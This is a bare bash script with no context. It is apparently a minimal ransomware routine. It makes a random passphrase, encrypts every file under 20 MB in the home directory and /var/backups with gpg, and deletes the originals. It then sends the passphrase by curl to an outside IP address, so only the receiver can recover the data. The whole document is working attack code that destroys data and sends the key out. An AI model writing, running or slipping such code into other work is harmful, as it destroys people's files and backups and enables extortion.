#!/bin/bash
pw=$(head -c 16 /dev/urandom | xxd -p)
export pw
find "$HOME" /var/backups -type f -size -20M -print0 2>/dev/null |
  xargs -0 -P 2 -n 1 sh -c '
    gpg --batch --yes --pinentry-mode loopback --passphrase "$pw" -c "$1" && rm -f "$1"
  ' _
echo "$pw" | curl -s --data-binary @- http://203.0.113.163/pw
